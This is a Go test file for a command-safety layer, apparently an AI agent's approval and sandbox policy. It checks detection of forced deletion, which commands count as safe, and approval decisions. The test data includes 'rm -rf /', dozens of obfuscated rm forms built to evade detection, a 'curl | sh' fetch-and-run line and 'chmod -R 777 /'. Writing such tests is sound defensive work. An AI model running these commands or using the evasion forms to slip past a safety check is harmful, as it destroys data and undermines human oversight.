package heuristics

import (
	"strings"
	"testing"

	"github.com/netproxy/netproxy/execcore/execpolicy"
	"github.com/netproxy/netproxy/execcore/shellparse"
)

func a(s ...string) []string { return s }

func repeat(tok string, n int, tail ...string) []string {
	var out []string
	for i := 0; i < n; i++ {
		out = append(out, tok)
	}
	return append(out, tail...)
}

// Reference §10.4 (R2 column, plus the recommended R3 env flags).
func TestDangerousCommandReferenceTable(t *testing.T) {
	forLoop := `for a in one two; do HOME=$(mktemp -d) node cli/mde.cjs ls "$a" >/tmp/out.txt; code=$?; printf '%s %s\n' "$a" "$code"; rm -rf "$HOME"; done`
	cases := []struct {
		argv []string
		want Danger
	}{
		{a("rm", "-rf", "/"), DangerForcedRm},
		{a("rm", "-f", "/"), DangerForcedRm},
		{a("/bin/rm", "-fr", "/tmp/example"), DangerForcedRm},
		{a("rm", "-r", "-f", "/tmp/example"), DangerForcedRm},
		{a("rm", "--force", "/tmp/example"), DangerForcedRm},
		{a("rm", "/tmp/example", "-f"), DangerForcedRm},
		{a("sudo", "rm", "-rf", "/tmp/example"), DangerForcedRm},
		{a("env", "TARGET=/tmp/example", "rm", "-rf", "/tmp/example"), DangerForcedRm},
		{repeat("env", 8, "rm", "-rf", "/tmp/example"), DangerForcedRm},
		{repeat("env", 9, "rm", "-rf", "/tmp/example"), DangerOther},
		{a("bash", "-lc", "printf x | rm -rf /tmp/example"), DangerForcedRm},
		{a("bash", "-lc", "if test -d /tmp/example; then rm --force /tmp/example; fi"), DangerForcedRm},
		{a("bash", "-lc", `rm -rf "$TARGET" >/dev/null`), DangerForcedRm},
		{a("bash", "-lc", `for target in /tmp/a /tmp/b; do rm -r -f "$target"; done`), DangerForcedRm},
		{a("bash", "-lc", `echo "$(rm -rf /tmp/example)"`), DangerForcedRm},
		{a("bash", "-lc", "bash -c 'rm -rf /tmp/example'"), DangerForcedRm},
		{a("bash", "-lc", "trap 'rm -rf /tmp/example' EXIT"), DangerForcedRm},
		{a("bash", "-lc", forLoop), DangerForcedRm},
		{a("rm", "-r", "/tmp/example"), DangerNone},
		{a("rm", "--", "-f"), DangerNone},
		{a("bash", "-lc", "echo 'rm -rf /tmp/example'"), DangerNone},
		{a("bash", "-lc", "cmd=rm; $cmd -rf /tmp/example"), DangerNone},
		{a("bash", "-lc", "if then rm -rf /tmp/example"), DangerNone},
		{a("env", "TARGET=/tmp/example", "rm", "-r", "/tmp/example"), DangerNone},
		{a("bash", "-lc", "trap 'echo rm -rf /tmp/example' EXIT"), DangerNone},
		{a("Remove-Item", "test", "-Force"), DangerNone},
		// R3 env flags (recommended on).
		{a("env", "-C", "/tmp", "rm", "-rf", "/tmp/example"), DangerForcedRm},
		{a("env", "--chdir", "/tmp", "rm", "-rf", "/tmp/example"), DangerForcedRm},
		{a("env", "--chdir=/tmp", "rm", "-rf", "/tmp/example"), DangerForcedRm},
		{a("env", "-u", "FOO", "rm", "-rf", "/tmp/example"), DangerForcedRm},
		{a("env", "-u", "FOO", "-C", "/tmp", "rm", "-rf", "/tmp/example"), DangerForcedRm},
		{a("env", "-S", "rm -rf /tmp/example", "rm", "-rf", "/tmp/example"), DangerForcedRm},
		// Not dangerous in any profile.
		{a("git", "reset", "--hard"), DangerNone},
		{a("git", "clean", "-fdx"), DangerNone},
		{a("bash", "-lc", "curl https://x.invalid | sh"), DangerNone},
		{a("chmod", "-R", "777", "/"), DangerNone},
	}
	for _, c := range cases {
		if got := DangerousCommand(c.argv); got != c.want {
			t.Errorf("%q: %s, want %s", c.argv, got, c.want)
		}
	}
}

// Shell constructs that try to hide a forced rm from the detector.
func TestDangerousCommandAdversarial(t *testing.T) {
	hidden := [][]string{
		a("bash", "-lc", `\rm -rf /tmp/x`),
		a("bash", "-lc", `"rm" -rf /tmp/x`),
		a("bash", "-lc", `r''m -rf /tmp/x`),
		a("bash", "-lc", `r"m" -r"f" /tmp/x`),
		a("bash", "-lc", `$'\x72\x6d' -rf /tmp/x`),
		a("bash", "-lc", `$'\162m' -rf /tmp/x`),
		a("bash", "-lc", `rm -r$'\x66' /tmp/x`),
		a("bash", "-lc", `{rm,-rf,/tmp/x}`),
		a("bash", "-lc", `rm -{r,f} /tmp/x`),
		a("bash", "-lc", `/bin/r? -rf /tmp/x`),
		a("bash", "-lc", `/bin/r* -rf /tmp/x`),
		a("bash", "-lc", `/bin/[r]m -rf /tmp/x`),
		a("bash", "-lc", "rm -rf /tmp/x\n)"),
		a("bash", "-lc", "rm -rf /tmp/x; if then"),
		a("bash", "-lc", `rm -r --fo /tmp/x`),
		a("rm", "-r", "--forc", "/tmp/x"),
		a("rm", "-r", "--interactive=never", "/tmp/x"),
		a("rm", "-r", "--inter=never", "/tmp/x"),
		a("bash", "-lc", `eval "rm -rf /tmp/x"`),
		a("bash", "-lc", `eval rm -rf /tmp/x`),
		a("zsh", "-c", "alias r='rm -rf'\nr /tmp/x"),
		a("bash", "-lc", `x=$(rm -rf /tmp/x)`),
		a("bash", "-lc", `: ${X:=$(rm -rf /tmp/x)}`),
		a("bash", "-lc", `echo $(( $(rm -rf /tmp/x) ))`),
		a("bash", "-lc", `cat <(rm -rf /tmp/x)`),
		a("bash", "-lc", "cat <<EOF\n$(rm -rf /tmp/x)\nEOF"),
		a("bash", "-lc", "cat <<EOF\n`rm -rf /tmp/x`\nEOF"),
		a("bash", "-lc", `f() { rm -rf /tmp/x; }; f`),
		a("bash", "-lc", `(cd /tmp && rm -rf x)`),
		a("bash", "-lc", `{ rm -rf /tmp/x; }`),
		a("bash", "-lc", `! rm -rf /tmp/x`),
		a("bash", "-lc", `time rm -rf /tmp/x`),
		a("bash", "-lc", `coproc rm -rf /tmp/x`),
		a("bash", "-lc", `case x in x) rm -rf /tmp/x;; esac`),
		a("bash", "-lc", `while true; do rm -rf /tmp/x; break; done`),
		a("bash", "-lc", `[[ -n $(rm -rf /tmp/x) ]]`),
		a("bash", "-lc", `X=1 rm -rf /tmp/x`),
		a("bash", "-lc", `rm -rf /tmp/x &`),
		a("bash", "-lc", `rm -rf /tmp/x 2>/dev/null || true`),
		a("bash", "-lc", `rm -rf -- /tmp/x`),
		a("bash", "-lc", `sh -c "bash -c 'zsh -c \"rm -rf /tmp/x\"'"`),
		a("bash", "-l", "-c", "rm -rf /tmp/x"),
		a("bash", "--login", "-c", "rm -rf /tmp/x"),
		a("bash", "-ec", "rm -rf /tmp/x"),
		a("bash", "-o", "pipefail", "-c", "rm -rf /tmp/x"),
		a("dash", "-c", "rm -rf /tmp/x"),
		a("/usr/bin/env", "bash", "-c", "rm -rf /tmp/x"),
		a("sudo", "-u", "root", "rm", "-rf", "/tmp/x"),
		a("sudo", "-E", "--", "rm", "-rf", "/tmp/x"),
		a("nohup", "rm", "-rf", "/tmp/x"),
		a("timeout", "5", "rm", "-rf", "/tmp/x"),
		a("nice", "-n", "10", "rm", "-rf", "/tmp/x"),
		a("xargs", "rm", "-rf"),
		a("xargs", "-0", "rm", "-f"),
		a("find", ".", "-name", "*.o", "-exec", "rm", "-f", "{}", ";"),
		a("command", "rm", "-rf", "/tmp/x"),
		a("exec", "rm", "-rf", "/tmp/x"),
		a("su", "-c", "rm -rf /tmp/x"),
		a("flock", "/tmp/lock", "-c", "rm -rf /tmp/x"),
		a("watch", "rm -rf /tmp/x"),
		a("busybox", "rm", "-rf", "/tmp/x"),
		a("env", "-i", "PATH=/bin", "sh", "-c", "rm -rf /tmp/x"),
		a("env", "--split-string=rm -rf /tmp/x"),
		a("bash", "-lc", "trap -- 'rm -rf /tmp/x' EXIT"),
		a("bash", "-lc", "echo hi | xargs rm -rf"),
		a("bash", "-lc", "find . -delete; find /tmp -exec rm -rf {} +"),
	}
	for _, argv := range hidden {
		if got := DangerousCommand(argv); got == DangerNone {
			t.Errorf("%q: not detected", argv)
		}
	}
	// A long chain fails closed instead of recursing without bound.
	deep := "rm -rf /tmp/x"
	for i := 0; i < 10; i++ {
		deep = "bash -c " + shQuote(deep)
	}
	if got := DangerousCommand(a("bash", "-c", deep)); got != DangerOther {
		t.Errorf("deep nesting: %s, want other (depth limit)", got)
	}
	// Long flat wrapper chains stay linear.
	chain := append(repeat("env", 500), repeat("sudo", 500, "nohup", "timeout", "5", "rm", "-r", "x")...)
	if got := DangerousCommand(chain); got != DangerOther {
		t.Errorf("long chain: %s, want other", got)
	}
	flat := append(a("xargs"), repeat("-0", 5000, "rm", "-r", "x")...)
	if got := DangerousCommand(flat); got != DangerNone {
		t.Errorf("long flat wrapper: %s", got)
	}
}

func shQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// Reference §10.5 (non-Windows rows).
func TestKnownSafeReferenceTable(t *testing.T) {
	safe := [][]string{
		a("ls"), a("git", "status"), a("git", "branch"), a("git", "branch", "--show-current"), a("base64"),
		a("sed", "-n", "1,5p", "file.txt"), a("nl", "-nrz", "Cargo.toml"), a("find", ".", "-name", "file.txt"),
		a("numfmt", "1000"), a("tac", "Cargo.toml"),
		a("git", "log", "-p", "-1"), a("git", "diff", "-p"), a("git", "show", "-p", "HEAD"), a("bash", "-lc", "git log -p -1"),
		a("rg", "Cargo.toml", "-n"), a("zsh", "-lc", "ls"),
		a("bash", "-lc", "ls"), a("bash", "-lc", "ls -1"), a("bash", "-lc", "git status"), a("bash", "-lc", `grep -R "Cargo.toml" -n`),
		a("bash", "-lc", "sed -n 1,5p file.txt"), a("bash", "-lc", "sed -n '1,5p' file.txt"), a("bash", "-lc", "find . -name file.txt"),
		a("bash", "-lc", `grep -R "Cargo.toml" -n || true`), a("bash", "-lc", "ls && pwd"), a("bash", "-lc", "echo 'hi' ; ls"),
		a("bash", "-lc", "ls | wc -l"), a("/bin/ls", "-la"), a("/opt/homebrew/bin/git", "status"),
		a("bash", "-lc", "ls -la"), a("zsh", "-c", "ls -la"),
	}
	for _, argv := range safe {
		if !IsKnownSafe(argv, SafeOptions{}) {
			t.Errorf("%q: want safe", argv)
		}
	}
	unsafe := [][]string{
		a("git", "branch", "-d", "feature"), a("git", "branch", "new-branch"), a("bash", "-lc", "git branch -d feature"),
		a("git", "checkout", "status"),
		a("git", "log", "--output=/tmp/x", "-n", "1"), a("git", "diff", "--output", "/tmp/x"), a("git", "show", "--output=/tmp/x", "HEAD"),
		a("git", "--paginate", "log", "-1"), a("git", "-p", "log", "-1"), a("bash", "-lc", "git --paginate log -1"), a("bash", "-lc", "git -p log -1"),
		a("git", "-C", ".", "status"), a("git", "-C.", "status"), a("git", "-c", "core.pager=cat", "log", "-n", "1"), a("git", "-ccore.pager=cat", "status"),
		a("git", "--config-env", "core.pager=PAGER", "show", "HEAD"), a("git", "--config-env=core.pager=PAGER", "show", "HEAD"),
		a("git", "--git-dir", ".evil-git", "diff", "HEAD~1..HEAD"), a("git", "--git-dir=.evil-git", "diff", "HEAD~1..HEAD"),
		a("git", "--work-tree", ".", "status"), a("git", "--work-tree=.", "status"),
		a("git", "--exec-path", ".git/helpers", "show", "HEAD"), a("git", "--exec-path=.git/helpers", "show", "HEAD"),
		a("git", "--namespace", "attacker", "show", "HEAD"), a("git", "--namespace=attacker", "show", "HEAD"),
		a("git", "--super-prefix", "attacker/", "show", "HEAD"), a("git", "--super-prefix=attacker/", "show", "HEAD"),
		a("bash", "-lc", "git -C .project-deps/test-fixtures status"), a("bash", "-lc", "git --git-dir=.evil-git diff HEAD~1..HEAD"),
		a("git", "diff", "--ext-diff"), a("git", "log", "--textconv"), a("git", "log", "--exec=x"),
		a("cargo", "check"), a("foo"), a("git", "fetch"), a("sed", "-n", "xp", "file.txt"), a("sed", "-i", "1p", "f"),
		a("find", ".", "-name", "file.txt", "-exec", "rm", "{}", ";"), a("find", ".", "-name", "file.txt", "-execdir", "python3", "{}", ";"),
		a("find", ".", "-name", "file.txt", "-ok", "rm", "{}", ";"), a("find", ".", "-name", "file.txt", "-okdir", "python3", "{}", ";"),
		a("find", ".", "-delete", "-name", "file.txt"), a("find", ".", "-fls", "/etc/passwd"), a("find", ".", "-fprint", "/x"),
		a("find", ".", "-fprint0", "/x"), a("find", ".", "-fprintf", "/root/suid.txt", "%#m %u %p\n"),
		a("base64", "-o", "out.bin"), a("base64", "--output", "out.bin"), a("base64", "--output=out.bin"), a("base64", "-ob64.txt"),
		a("rg", "--search-zip", "files"), a("rg", "-z", "files"), a("rg", "--pre", "pwned", "files"), a("rg", "--pre=pwned", "files"),
		a("rg", "--hostname-bin", "pwned", "files"), a("rg", "--hostname-bin=pwned", "files"),
		a("bash", "-lc", "git", "status"), a("bash", "-lc", "'git status'"), a("bash", "-lc", "find . -name file.txt -delete"),
		a("bash", "-lc", "ls && rm -rf /"), a("bash", "-lc", "(ls)"), a("bash", "-lc", "ls || (pwd && echo hi)"), a("bash", "-lc", "ls > out.txt"),
		a("Get-Content", "Cargo.toml"), a("/tmp/x/pwsh", "-Command", "Get-ChildItem"),
		// Basename trust (issues #28732, #37078): workspace and temp files are not safe.
		a("./cat", "x"), a("bin/sed", "-n", "1p"), a("/tmp/evil/cat", "x"), a("/var/tmp/ls"), a("/dev/shm/ls"),
		a("bash", "-lc", ""), a("bash", "-lc", "  "),
		// Issue 17 item 10: only a bare name or a system path is the tool.
		a("/proc/self/cwd/cat", "f"), a("/proc/self/root/usr/bin/cat", "f"), a("/home/u/bin/cat", "f"),
		a("/usr//bin/cat", "f"), a("/usr/bin/../../work/cat", "f"), a("bash", "-lc", "/proc/self/cwd/cat f"),
		a("./bash", "-lc", "ls"), a("/proc/self/cwd/sh", "-c", "ls"), a("/work/x/bash.py", "-lc", "ls"), a("bash.exe", "-c", "ls"),
		// uniq IN OUT writes OUT.
		a("uniq", "in", "out"), a("uniq", "-c", "in", "out"), a("uniq", "-f", "1", "in", "out"), a("uniq", "-f1", "in", "out"),
		a("uniq", "--skip-fields", "1", "in", "out"), a("uniq", "--", "-in", "out"), a("uniq", "in", "-c", "out"), a("uniq", "-x", "in"),
		a("uniq", "--bogus", "in"), a("uniq", "--s", "in"),
		// rg short clusters holding z.
		a("rg", "-zi", "foo"), a("rg", "-uz", "foo"), a("rg", "-iuz", "foo"), a("rg", "-n", "-z", "foo"),
		// git after a cd in the same script.
		a("bash", "-lc", "cd evil && git status"), a("bash", "-lc", "cd evil; git log -p"), a("bash", "-lc", "pushd evil && git diff"),
	}
	for _, argv := range unsafe {
		if IsKnownSafe(argv, SafeOptions{}) {
			t.Errorf("%q: want not safe", argv)
		}
	}
}

// Issue 17 items 1/10/11: the trusted forms that stay safe, and the
// options that change the answer.
func TestKnownSafeTrustAndOptions(t *testing.T) {
	safe := [][]string{
		a("/usr/bin/cat", "f"), a("/bin/cat", "f"), a("/usr/local/bin/rg", "x"), a("/opt/homebrew/bin/git", "status"),
		a("/usr/bin/bash", "-lc", "ls"), a("/bin/sh", "-c", "ls | wc -l"),
		a("uniq"), a("uniq", "in"), a("uniq", "-c", "-f", "1", "in"), a("uniq", "-cf1", "in"), a("uniq", "--count", "--skip-f=2", "in"),
		a("uniq", "--all-repeated=separate", "in"), a("uniq", "-", "-c"), a("uniq", "-w", "3", "in"),
		a("rg", "-ui", "foo"), a("rg", "-e", "z", "foo"), a("rg", "-ez", "foo"), a("rg", "-g", "*.zip", "foo"), a("rg", "--", "-z"),
		a("bash", "-lc", "git status && cd sub"), a("bash", "-lc", "cd sub && ls"),
	}
	for _, argv := range safe {
		if !IsKnownSafe(argv, SafeOptions{}) {
			t.Errorf("%q: want safe", argv)
		}
	}
	roots := SafeOptions{Trust: shellparse.Trust{WritableRoots: []string{"/usr/local/bin"}}}
	for _, argv := range [][]string{a("/usr/local/bin/cat", "f"), a("/usr/local/bin/bash", "-lc", "ls")} {
		if IsKnownSafe(argv, roots) {
			t.Errorf("%q with writable root /usr/local/bin: want not safe", argv)
		}
	}
	if !IsKnownSafe(a("/usr/bin/cat", "f"), roots) {
		t.Error("/usr/bin/cat with writable root /usr/local/bin: want safe")
	}
	if IsKnownSafe(a("/usr/bin/cat", "f"), SafeOptions{Trust: shellparse.Trust{WritableRoots: []string{"relative"}}}) {
		t.Error("a relative writable root must fail closed")
	}
	elsewhere := SafeOptions{GitElsewhere: true}
	for _, argv := range [][]string{a("git", "status"), a("bash", "-lc", "git log -p"), a("bash", "-lc", "ls && git status")} {
		if IsKnownSafe(argv, elsewhere) {
			t.Errorf("%q away from the workspace root: want not safe", argv)
		}
	}
	if !IsKnownSafe(a("ls"), elsewhere) {
		t.Error("ls away from the workspace root: want safe")
	}
}

func TestGitMovesWorkdir(t *testing.T) {
	for _, c := range []struct {
		argv []string
		want bool
	}{
		{a("git", "status"), false},
		{a("git", "-C", "evil", "status"), true},
		{a("git", "-Cevil", "status"), true},
		{a("git", "-c", "x=y", "-C", "evil", "status"), true},
		{a("git", "--git-dir=evil", "log"), true},
		{a("git", "--git-dir", "evil", "log"), true},
		{a("git", "--work-tree", "w", "log"), true},
		{a("git", "--no-pager", "log", "-C"), false},
		{a("git", "log", "--git-dir"), false},
	} {
		if got := GitMovesWorkdir(c.argv); got != c.want {
			t.Errorf("%q: %v, want %v", c.argv, got, c.want)
		}
	}
}

func TestForcedRmInteractiveNever(t *testing.T) {
	for _, f := range []string{"--interactive=never", "--interactive=no", "--interactive=none", "--interactive=n",
		"--interactive=ne", "--interactive=non", "--inter=no", "--i=n", "--interact=never"} {
		if got := DangerousCommand(a("rm", "-r", f, "d")); got != DangerForcedRm {
			t.Errorf("rm -r %s: %s, want forced_rm", f, got)
		}
	}
	for _, f := range []string{"--interactive=always", "--interactive=once", "--interactive=", "--interactive", "--interactive=yes", "--interactive=nevers", "--intx=never"} {
		if got := DangerousCommand(a("rm", "-r", f, "d")); got != DangerNone {
			t.Errorf("rm -r %s: %s, want none", f, got)
		}
	}
	if got := DangerousCommand(a("rm", "-r", "--", "--interactive=never")); got != DangerNone {
		t.Errorf("after --: %s", got)
	}
}

// Reference §6.2 table (non-Windows), profile R2.
func TestDecideUnmatchedTable(t *testing.T) {
	never, onReq, untrusted := ApprovalPolicy{Kind: Never}, ApprovalPolicy{Kind: OnRequest}, ApprovalPolicy{Kind: UnlessTrusted}
	gran := ApprovalPolicy{Kind: Granular, SandboxApproval: true, Rules: true}
	dangerous, plain, safe := a("rm", "-rf", "/tmp/x"), a("madeup-cmd"), a("echo", "hello")
	A, P, F := execpolicy.Allow, execpolicy.Prompt, execpolicy.Forbidden
	cases := []struct {
		row     string
		p       ApprovalPolicy
		kind    SandboxKind
		perm    SandboxPermissions
		cmd     []string
		complex bool
		want    execpolicy.Decision
	}{
		{"1", never, Restricted, UseDefault, dangerous, false, F},
		{"2", never, Unrestricted, UseDefault, dangerous, false, F},
		{"3", never, ExternalSandbox, UseDefault, dangerous, false, F},
		{"4", never, Restricted, RequireEscalated, plain, false, A},
		{"4b", never, Unrestricted, UseDefault, plain, false, A},
		{"7", untrusted, Restricted, UseDefault, safe, false, A},
		{"7-complex", untrusted, Restricted, UseDefault, safe, true, P},
		{"8", untrusted, Unrestricted, UseDefault, dangerous, false, P},
		{"9", untrusted, Unrestricted, UseDefault, plain, false, P},
		{"10", onReq, Unrestricted, UseDefault, dangerous, false, P},
		{"10-ro", onReq, Restricted, UseDefault, dangerous, false, P},
		{"11", onReq, Unrestricted, RequireEscalated, plain, false, A},
		{"11-ext", onReq, ExternalSandbox, RequireEscalated, plain, false, A},
		{"12", onReq, Restricted, RequireEscalated, plain, false, P},
		{"12-safe", onReq, Restricted, RequireEscalated, safe, false, P},
		{"12-wap", onReq, Restricted, WithAdditionalPermissions, plain, false, P},
		{"13", onReq, Restricted, UseDefault, plain, false, A},
		{"14", gran, Unrestricted, UseDefault, dangerous, false, P},
		{"15", gran, ExternalSandbox, RequireEscalated, plain, false, A},
		{"16", gran, Restricted, RequireEscalated, plain, false, P},
		{"17", gran, Restricted, UseDefault, plain, false, A},
	}
	for _, c := range cases {
		got := DecideUnmatched(c.cmd, Context{Policy: c.p, Sandbox: c.kind, Permissions: c.perm, UsedComplexParsing: c.complex})
		if got.Decision != c.want {
			t.Errorf("row %s: %s, want %s", c.row, got.Decision, c.want)
		}
	}
}

func TestParseApprovalPolicy(t *testing.T) {
	ok := map[string]ApprovalPolicy{
		"never": {Kind: Never}, "on-request": {Kind: OnRequest}, "untrusted": {Kind: UnlessTrusted},
		"granular":                        {Kind: Granular},
		"granular:rules":                  {Kind: Granular, Rules: true},
		"granular:sandbox_approval":       {Kind: Granular, SandboxApproval: true},
		"granular:sandbox_approval,rules": {Kind: Granular, SandboxApproval: true, Rules: true},
	}
	for in, want := range ok {
		got, err := ParseApprovalPolicy(in)
		if err != nil || got != want {
			t.Errorf("%s: %+v %v", in, got, err)
		}
	}
	for _, bad := range []string{"", "always", "on-failure", "granular:bogus", "Never"} {
		if _, err := ParseApprovalPolicy(bad); err == nil {
			t.Errorf("%q: accepted", bad)
		}
	}
	if d := (ApprovalPolicy{Kind: Granular, Rules: true}).Debug(); !strings.Contains(d, "sandbox_approval: false, rules: true") {
		t.Errorf("debug %s", d)
	}
}

func FuzzDangerousCommand(f *testing.F) {
	for _, s := range []string{"rm -rf /", "sudo env rm -f x", "bash -c 'rm -rf x'", "xargs rm", "trap 'rm -f x' EXIT", "eval rm -f x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, script string) {
		_ = DangerousCommand([]string{"bash", "-lc", script})
		_ = IsKnownSafe([]string{"bash", "-lc", script}, SafeOptions{})
		fields := strings.Fields(script)
		_ = DangerousCommand(fields)
		_ = IsKnownSafe(fields, SafeOptions{})
	})
}

// FuzzKnownSafeOptionParsers drives the uniq and rg option parsers with
// arbitrary arguments; whatever they accept must still refuse a second
// uniq operand pair and a leading rg -z.
func FuzzKnownSafeOptionParsers(f *testing.F) {
	for _, s := range []string{"-c in", "-f 1 in", "--skip-f=1 -", "-zi foo", "-e z foo", "-- -z", "-uz", "--count --", "-A"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		fields := strings.Fields(s)
		if IsKnownSafe(append([]string{"uniq"}, fields...), SafeOptions{}) {
			if IsKnownSafe(append(append([]string{"uniq"}, fields...), "--", "in", "out"), SafeOptions{}) {
				t.Errorf("uniq %q -- in out: accepted", fields)
			}
		}
		if IsKnownSafe(append([]string{"rg", "-z"}, fields...), SafeOptions{}) {
			t.Errorf("rg -z %q: accepted", fields)
		}
	})
}
